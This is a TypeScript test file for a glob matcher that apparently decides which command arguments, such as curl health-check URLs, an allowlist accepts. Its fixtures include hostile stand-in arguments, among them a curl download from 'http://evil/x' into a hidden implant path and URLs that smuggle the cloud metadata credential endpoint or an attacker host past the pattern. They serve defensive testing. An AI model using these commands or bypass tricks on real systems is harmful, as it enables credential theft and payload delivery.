import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  argsGlobMatch,
  argumentGlobMatch,
  globMatch,
  MAX_PATTERN_LENGTH,
  MAX_SUBJECT_LENGTH,
} from "../../src/detection/glob.js";

/** The reference: a regular expression built from the glob (only in tests, only from generated globs). */
function reference(pattern: string, subject: string): boolean {
  const source = [...pattern]
    .map((c) =>
      c === "*" ? "[\\s\\S]*" : c === "?" ? "[\\s\\S]" : c.replace(/[\\^$.|+()[\]{}*?/-]/g, "\\$&"),
    )
    .join("");
  return new RegExp(`^${source}$`).test(subject);
}

describe("globMatch", () => {
  it.each([
    ["*", "", true],
    ["*", "anything", true],
    ["curl", "curl", true],
    ["curl", "Curl", false],
    ["c?rl", "curl", true],
    ["c?rl", "crl", false],
    ["*/curl:*", "docker.io/curlimages/curl:8.5.0", true],
    ["*health*", "-s http://localhost:8080/healthz", true],
    ["a*b*c", "aXbYc", true],
    ["a*b*c", "aXbY", false],
    ["[abc]", "[abc]", true],
    ["[abc]", "a", false],
    ["a.c", "abc", false],
    ["**", "x", true],
    ["", "", true],
    ["", "x", false],
  ])("%j on %j is %s", (pattern, subject, expected) => {
    expect(globMatch(pattern, subject)).toBe(expected);
  });

  it("agrees with a regular-expression reference on short random globs", () => {
    const alphabet = fc.constantFrom("a", "b", "*", "?", ".", "[", "\\");
    fc.assert(
      fc.property(
        fc.array(alphabet, { maxLength: 8 }).map((chars) => chars.join("")),
        fc
          .array(fc.constantFrom("a", "b", ".", "[", "\\", "*"), { maxLength: 10 })
          .map((chars) => chars.join("")),
        (pattern, subject) => {
          expect(globMatch(pattern, subject)).toBe(reference(pattern, subject));
        },
      ),
      { numRuns: 20_000 },
    );
  });

  it("finishes a pathological pattern at the length caps quickly (no exponential backtracking)", () => {
    // Prepare: "*a*a*a…*b" against "aaaa…" is the classic catastrophic case for backtracking matchers.
    const pattern = `${"*a".repeat((MAX_PATTERN_LENGTH - 1) / 2)}b`.slice(0, MAX_PATTERN_LENGTH);
    const subject = "a".repeat(MAX_SUBJECT_LENGTH);
    // Act
    const matched = globMatch(pattern, subject);
    // Assess: a quadratic bound at the caps (4 million steps); the generous vitest timeout is the real guard.
    expect(matched).toBe(false);
  });

  it("refuses over-long patterns and subjects", () => {
    expect(globMatch("*".repeat(MAX_PATTERN_LENGTH + 1), "x")).toBe(false);
    expect(globMatch("*", "x".repeat(MAX_SUBJECT_LENGTH + 1))).toBe(false);
  });
});

/** Reference for one argument: a regular expression built from a generated pattern (tests only). */
function argumentSource(pattern: string, any: string, segment: string): string {
  return pattern
    .replace(/[\\^$.|+()[\]{}/-]/g, "\\$&")
    .replace(/\*{2,}|\*|\?/g, (w) => (w === "?" ? any : w === "*" ? `${segment}*` : `${any}*`));
}

function argumentReference(pattern: string, argument: string): boolean {
  return new RegExp(`^${argumentSource(pattern, "[\\s\\S]", "[^/?#@]")}$`).test(argument);
}

/** Reference for an args pattern: each argument followed by NUL, one regular expression over that. */
function argsReference(pattern: string, args: string[]): boolean {
  const source = pattern
    .split(" ")
    .map((token) =>
      /^\*{2,}$/.test(token)
        ? "(?:[^\\x00]*\\x00)*"
        : `${argumentSource(token, "[^\\x00]", "[^/?#@\\x00]")}\\x00`,
    )
    .join("");
  return new RegExp(`^${source}$`).test(args.map((a) => `${a}\0`).join(""));
}

describe("argumentGlobMatch", () => {
  it.each([
    [
      "http://*.svc.cluster.local:8080/healthz",
      "http://payments-api.payments.svc.cluster.local:8080/healthz",
      true,
    ],
    ["http://*.svc.cluster.local:8080/healthz", "http://evil/s.sh#.svc.cluster.local:8080/healthz", false],
    ["http://*.svc.cluster.local:8080/healthz", "http://evil#.svc.cluster.local:8080/healthz", false],
    [
      "http://*.svc.cluster.local:8080/healthz",
      "http://169.254.169.254?.svc.cluster.local:8080/healthz",
      false,
    ],
    [
      "http://*.svc.cluster.local:8080/healthz",
      "http://a/latest/meta-data/iam/role?.svc.cluster.local:8080/healthz",
      false,
    ],
    ["http://*:8080/healthz", "http://ok:1@evil.example:8080/healthz", false],
    ["http://*:8080/healthz", "http://ok.svc:8080/healthz", true],
    ["http://*", "http://a/b", false],
    ["http://**", "http://a/b?c#d@e", true],
    ["http://***", "http://a/b", true],
    ["http://host/**/healthz", "http://host/a/b/healthz", true],
    ["http://host/*/healthz", "http://host/a/b/healthz", false],
    ["/var/lib/*/", "/var/lib/data/", true],
    ["*@10.0.8.20:/srv/backups/**", "backup@10.0.8.20:/srv/backups/ledger/", true],
    ["*@10.0.8.20:/srv/backups/**", "a@b@10.0.8.20:/srv/backups/ledger/", false],
    ["http://h/metrics?format=prom", "http://h/metrics?format=prom", true],
    ["http://h/metrics?format=prom", "http://h/metricsXformat=prom", true],
    ["Host:*", "Host: a b", true],
    ["*", "", true],
    ["*", "a/b", false],
    ["**", "a/b", true],
    ["-fsS", "-fsS", true],
    ["-fsS", "-fsSL", false],
    ["-fsS", "-fss", false],
    ["", "", true],
    ["", "x", false],
  ])("%j on %j is %s", (pattern, argument, expected) => {
    expect(argumentGlobMatch(pattern, argument)).toBe(expected);
    expect(argumentReference(pattern, argument)).toBe(expected);
  });

  it("agrees with a regular-expression reference on short random patterns", () => {
    const chars = ["a", "b", "/", "?", "#", "@", ".", " "];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...chars, "*", "*"), { maxLength: 9 }).map((c) => c.join("")),
        fc.array(fc.constantFrom(...chars, "*"), { maxLength: 10 }).map((c) => c.join("")),
        (pattern, argument) => {
          expect(argumentGlobMatch(pattern, argument)).toBe(argumentReference(pattern, argument));
        },
      ),
      { numRuns: 20_000 },
    );
  });

  it("finishes pathological patterns at the length caps quickly", () => {
    // Prepare: stars of both kinds separated by literals that almost match, against the longest argument.
    const patterns = [
      `${"*a".repeat(255)}b`,
      `${"**a".repeat(170)}b`,
      `${"*a**a".repeat(102)}b`,
      `${"**/*a".repeat(102)}b`,
    ];
    const subjects = ["a".repeat(MAX_SUBJECT_LENGTH), "/a".repeat(MAX_SUBJECT_LENGTH / 2)];
    for (const pattern of patterns) {
      for (const subject of subjects) {
        expect(pattern.length).toBeLessThanOrEqual(MAX_PATTERN_LENGTH);
        // Act
        const matched = argumentGlobMatch(pattern, subject);
        // Assess: pattern × subject steps (4.2 million), however the stars are arranged.
        expect(matched).toBe(false);
      }
    }
  });

  it("refuses over-long patterns and arguments", () => {
    expect(argumentGlobMatch("*".repeat(MAX_PATTERN_LENGTH + 1), "x")).toBe(false);
    expect(argumentGlobMatch("**", "x".repeat(MAX_SUBJECT_LENGTH + 1))).toBe(false);
  });
});

describe("argsGlobMatch", () => {
  const HEALTHZ = "-fsS http://*.svc.cluster.local:8080/healthz";
  it.each([
    [HEALTHZ, ["-fsS", "http://payments-api.payments.svc.cluster.local:8080/healthz"], true],
    [
      HEALTHZ,
      ["-fsS", "http://evil/x", "-o", "/tmp/.x/implant", "http://a.svc.cluster.local:8080/healthz"],
      false,
    ],
    [
      HEALTHZ,
      ["http://evil/x", "-o", "/tmp/.x/implant", "-fsS", "http://a.svc.cluster.local:8080/healthz"],
      false,
    ],
    [HEALTHZ, ["-fsS", "http://a.svc.cluster.local:8080/healthz", "-o", "/tmp/x"], false],
    [HEALTHZ, ["-fsS", "http://evil/s.sh#.svc.cluster.local:8080/healthz"], false],
    [
      HEALTHZ,
      ["-fsS", "http://169.254.169.254/latest/meta-data/iam/role?.svc.cluster.local:8080/healthz"],
      false,
    ],
    [HEALTHZ, ["-fsS http://a.svc.cluster.local:8080/healthz"], false],
    [HEALTHZ, ["-fsS"], false],
    [HEALTHZ, [], false],
    ["** --max-time 2 **", ["-s", "--max-time", "2", "http://x/"], true],
    ["** --max-time 2 **", ["--max-time", "2"], true],
    ["** --max-time 2 **", ["--max-time", "20"], false],
    ["** --max-time 2 **", ["--max-time 2"], false],
    ["**", [], true],
    ["**", ["a", "b/c"], true],
    ["*", [], false],
    ["*", [""], true],
    ["*", ["a b"], true],
    ["* *", ["a"], false],
    ["-a **", ["-a"], true],
    ["-a ** -z", ["-a", "x", "y", "-z"], true],
    ["-a ** -z", ["-a", "x", "-z", "y"], false],
    ["a*b", ["a", "b"], false],
  ])("%j on %j is %s", (pattern, args, expected) => {
    expect(argsGlobMatch(pattern, args)).toBe(expected);
    expect(argsReference(pattern, args)).toBe(expected);
  });

  it("agrees with a regular-expression reference on short random patterns and argument lists", () => {
    const chars = ["a", "b", "/", "?", "#", "@"];
    const pattern = fc
      .array(
        fc.oneof(
          fc.constant("**"),
          fc.array(fc.constantFrom(...chars, "*"), { maxLength: 4 }).map((c) => c.join("")),
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((tokens) => tokens.join(" "));
    const args = fc.array(
      fc.array(fc.constantFrom(...chars, " ", "*"), { maxLength: 4 }).map((c) => c.join("")),
      { maxLength: 5 },
    );
    fc.assert(
      fc.property(pattern, args, (p, a) => {
        expect(argsGlobMatch(p, a)).toBe(argsReference(p, a));
      }),
      { numRuns: 20_000 },
    );
  });

  it("finishes pathological patterns at the length caps quickly", () => {
    // Prepare: many argument runs and near-matching argument patterns against the most arguments
    // (4,096 one-character ones) and against a few long ones.
    const cases: [string, string[]][] = [
      [`${"** a ".repeat(102)}b`, Array(MAX_SUBJECT_LENGTH / 2).fill("a")],
      [`${"* ".repeat(255)}b`, Array(MAX_SUBJECT_LENGTH / 2).fill("a")],
      [`** ${"*a".repeat(252)}b **`, Array(8).fill("a".repeat(MAX_SUBJECT_LENGTH / 8 - 1))],
      [`${"**a ".repeat(127)}b`, Array(8).fill("a".repeat(MAX_SUBJECT_LENGTH / 8 - 1))],
    ];
    for (const [pattern, args] of cases) {
      expect(pattern.length).toBeLessThanOrEqual(MAX_PATTERN_LENGTH);
      expect(args.join(" ").length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
      // Act
      const matched = argsGlobMatch(pattern, args);
      // Assess
      expect(matched).toBe(false);
    }
  });

  it("fails closed on over-long patterns and argument lists", () => {
    expect(argsGlobMatch("*".repeat(MAX_PATTERN_LENGTH + 1), ["x"])).toBe(false);
    expect(argsGlobMatch("**", ["x".repeat(MAX_SUBJECT_LENGTH), "y"])).toBe(false);
    expect(argsGlobMatch("** y", ["x".repeat(MAX_SUBJECT_LENGTH - 2), "y"])).toBe(true);
  });
});
